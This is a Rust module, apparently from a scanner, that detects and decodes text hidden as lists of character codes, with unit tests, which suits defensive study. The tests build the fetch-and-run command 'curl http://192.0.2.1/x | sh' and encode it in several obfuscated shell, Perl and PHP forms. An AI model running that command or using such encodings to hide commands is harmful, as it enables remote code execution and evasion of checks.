//! Text written as a list of its characters' codes: `63 75 72 6c`, `99,117,114`, `chr(99)+chr(117)`.

/// Shorter lists are numbers.
const CODES_MIN: usize = 12;
/// Digits of the longest code.
const CODE_MAX: usize = 3;
/// What may stand between two codes, such as `)+chr(`.
const SEPARATOR_MAX: usize = 8;

/// Calls `found(start, decoded)` for each list of `text` that spells something. `buffer` is kept from text to text.
pub(super) fn lists(text: &[u8], buffer: &mut Vec<u8>, mut found: impl FnMut(usize, &[u8])) {
    let mut at = 0;
    while at < text.len() {
        let within = at.checked_sub(1).is_some_and(|i| text[i].is_ascii_alphanumeric() && text[i] != b'x');
        if within || !text[at].is_ascii_hexdigit() {
            at += 1;
            continue;
        }
        // What was read and spells nothing is not looked at again: a long list of numbers must not cost its square.
        let mut next = at + 1;
        for radix in [Radix::Decimal, Radix::Hex] {
            let Some(length) = radix.read(&text[at..], buffer) else { continue };
            next = next.max(at + length);
            if spells_something(buffer) {
                found(at, buffer);
                break;
            }
        }
        at = next;
    }
}

#[derive(Clone, Copy)]
enum Radix {
    Decimal,
    Hex,
}

impl Radix {
    fn is_digit(self, byte: u8) -> bool {
        match self {
            Self::Decimal => byte.is_ascii_digit(),
            Self::Hex => byte.is_ascii_hexdigit(),
        }
    }

    /// The code that `text` begins with, and its length.
    fn code(self, text: &[u8]) -> Option<(u8, usize)> {
        let length = text.iter().take(CODE_MAX + 1).take_while(|b| self.is_digit(**b)).count();
        let (lengths, radix) = match self {
            Self::Decimal => (2..=3, 10),
            Self::Hex => (2..=2, 16),
        };
        if !lengths.contains(&length) {
            return None;
        }
        let digits = std::str::from_utf8(&text[..length]).ok()?;
        Some((u8::from_str_radix(digits, radix).ok()?, length))
    }

    /// How long what stands before the next code is: `text` begins right behind a code.
    fn separator(self, text: &[u8]) -> Option<usize> {
        let of_hex = |b: &u8| matches!(b, b' ' | b',' | b':' | b'\n' | b'\\' | b'x');
        let length = match self {
            Self::Decimal => text.iter().take(SEPARATOR_MAX + 1).position(u8::is_ascii_digit)?,
            // A zero in front, as in `0x63`, is none of a code.
            Self::Hex if text.starts_with(b",0x") || text.starts_with(b" 0x") => 3,
            Self::Hex if text.starts_with(b", 0x") => 4,
            Self::Hex => text.iter().take(SEPARATOR_MAX + 1).position(|b| !of_hex(b))?,
        };
        (1..=SEPARATOR_MAX).contains(&length).then_some(length)
    }

    /// Reads a list whose codes all have the same between them into `buffer`; gives its length if it is long enough.
    fn read(self, text: &[u8], buffer: &mut Vec<u8>) -> Option<usize> {
        buffer.clear();
        let (code, mut at) = self.code(text)?;
        buffer.push(code);
        let separator = &text[at..at + self.separator(&text[at..])?];
        while let Some(rest) = text[at..].strip_prefix(separator)
            && let Some((code, length)) = self.code(rest)
        {
            buffer.push(code);
            at += separator.len() + length;
        }
        (buffer.len() >= CODES_MIN).then_some(at)
    }
}

/// Mostly letters, and printable: a list of ports or colours spells nothing.
fn spells_something(bytes: &[u8]) -> bool {
    let letters = bytes.iter().filter(|b| b.is_ascii_alphabetic() || **b == b' ').count();
    letters * 2 >= bytes.len() && bytes.iter().all(|b| matches!(b, b'\t' | b'\n' | b'\r' | b' '..=b'~'))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn all(text: &str) -> Vec<String> {
        let mut out = Vec::new();
        lists(text.as_bytes(), &mut Vec::new(), |_, layer| {
            out.push(String::from_utf8_lossy(layer).into_owned());
        });
        out
    }

    #[test]
    fn codes_are_put_together() {
        let command = "curl http://192.0.2.1/x | sh";
        let joined = |separator: &str, code: fn(u8) -> String| {
            command.bytes().map(code).collect::<Vec<_>>().join(separator)
        };
        let hex = |b| format!("{b:02x}");
        for list in [
            format!("xxd -r -p <<< '{}'", joined(" ", hex)),
            format!("bytes([0x{}])", joined(", 0x", hex)),
            format!("a=(0x{})", joined(" 0x", hex)),
            format!("bytes([{}])", joined(",", |b| b.to_string())),
            format!("perl -e 'print pack(\"C*\", {})'", joined(", ", |b| b.to_string())),
            format!("php -r 'system(chr({}));'", joined(").chr(", |b| b.to_string())),
        ] {
            assert_eq!(all(&list), [command], "{list}");
        }
    }

    #[test]
    fn a_long_list_is_read_once() {
        let list = "01 02 ".repeat(1 << 16);
        let start = std::time::Instant::now();
        assert_eq!(all(&list), [""; 0]);
        // Read anew from each of its numbers it would take minutes.
        assert!(start.elapsed() < std::time::Duration::from_secs(5));
    }

    #[test]
    fn numbers_spell_nothing() {
        for text in [
            "for p in 21 22 23 25 53 80 11 13 43 44 99 88 77 66; do echo $p; done",
            "colors=(30 31 32 33 34 35 36 37 90 91 92 93 94)",
            "seq=(33 34 35 36 37 38 39 40 41 42 43 44 45)",
            "ether 52:54:00:12:34:56",
            "1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14",
            "9",
            "",
            &"7f 01 ".repeat(20),
        ] {
            assert_eq!(all(text), [""; 0], "{text}");
        }
    }
}
